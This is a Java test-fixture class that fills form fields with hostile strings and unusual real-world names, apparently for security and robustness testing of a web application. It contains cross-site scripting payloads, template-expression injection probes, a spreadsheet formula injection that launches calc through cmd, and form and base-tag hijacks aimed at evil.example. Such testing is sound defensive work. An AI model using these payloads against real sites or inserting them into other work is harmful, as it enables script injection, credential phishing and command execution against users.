package org.sonocert.look;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/**
 * Texts that harm where a page, a mail or a file takes them for something else than words, and
 * words as people really write them that break pages made for short English ones. Where a script of
 * theirs ran, {@code window.struck} is set; where an expression was worked out, 1337 is read.
 */
final class HostileTexts implements Wording {
  /** The product of the numbers in the expressions. */
  static final String WORKED_OUT = "1337";

  private static final String OVERRIDE = "\u202e";

  /** No angle brackets and no override of direction: a name with them is refused. */
  private static final List<String> NAMES =
      List.of(
          "\" onmouseover=struck=1 x=\"",
          "'-struck=1-'",
          "=HYPERLINK(7*191)",
          "__${7*191}__::x",
          "${7*191}[[${7*191}]]",
          "{{7*191}}#{7*191}",
          "javascript:struck=1//",
          "&lt;script&gt;struck=1&lt;/script&gt;",
          "محمد عبد الله",
          "שׁוֹשַׁנָּה",
          "Z\u0351\u036b\u0343a\u0329\u0353l\u0335g\u034bo\u033c",
          "Łucja-Ðorđe Ñúñez",
          "👩🏽‍⚕️ 田中",
          "W".repeat(99));

  private static final List<String> SCRIPTS =
      List.of(
          "<script>struck=1</script>",
          "\"><img src=/no-such-picture onerror=struck=1>",
          "'><svg/onload=struck=1>",
          "</textarea></title></script><script>struck=1</script>",
          "--><script>struck=1</script><!--",
          "]]><x:script xmlns:x='http://www.w3.org/1999/xhtml'>struck=1</x:script>",
          "<a href=javascript:struck=1>here</a>",
          "<form id=content action=//evil.example><input name=_csrf>",
          "<iframe srcdoc='<script>parent.struck=1</script>'>",
          "<style>*{display:none}</style>",
          "<base href=//evil.example/>",
          "{\"a\":\"</script><script>struck=1</script>\"}");

  private static final List<String> OTHERS =
      List.of(
          "__${7*191}__::.x",
          "[(${7*191})] ${7*191} #{7*191} *{7*191} |${7*191}|",
          "=7*191+cmd|' /C calc'!A0",
          "${execution.setVariable('x', 7*191)} now() + 7",
          OVERRIDE + "desrever si siht",
          "مرحبا بالعالم",
          "H\u0351\u036b\u0343e\u0329\u0353 👩🏽‍⚕️\uD83C\uDFFD ﷽",
          "Donaudampfschifffahrtsgesellschaft".repeat(5));

  private final Map<String, List<String>> given = new LinkedHashMap<>();
  private int turn;

  @Override
  public String of(String field, String calm) {
    String text = drawn(field);
    given.computeIfAbsent(field, f -> new ArrayList<>()).add(text);
    return text;
  }

  /** Short fields take the texts that fit; every text ends in a number, so that each is another. */
  private String drawn(String field) {
    turn++;
    return switch (field) {
      case "given name", "family name" -> NAMES.get(turn % NAMES.size());
      case "licence", "examination", "certificate" -> shortened(turn, 50);
      case "profession", "payer", "evaluator", "reference" -> shortened(turn, 95);
      default -> all(turn) + " " + turn + " words.";
    };
  }

  private static String shortened(int turn, int longest) {
    String text = all(turn);
    return (text.length() > longest ? text.substring(0, longest) : text) + " " + turn;
  }

  private static String all(int turn) {
    int at = turn % (SCRIPTS.size() + OTHERS.size());
    return at < SCRIPTS.size() ? SCRIPTS.get(at) : OTHERS.get(at - SCRIPTS.size());
  }

  /** What was typed, by field. */
  Map<String, List<String>> given() {
    return given;
  }

  /** Every text of the corpus in four long ones, for what is searched for or mistyped. */
  static List<String> inFour() {
    List<String> corpus = new ArrayList<>(SCRIPTS);
    corpus.addAll(OTHERS);
    int quarter = (corpus.size() + 3) / 4;
    return java.util.stream.IntStream.range(0, 4)
        .mapToObj(i -> corpus.subList(i * quarter, Math.min(corpus.size(), (i + 1) * quarter)))
        .map(part -> String.join(" ", part))
        .toList();
  }
}
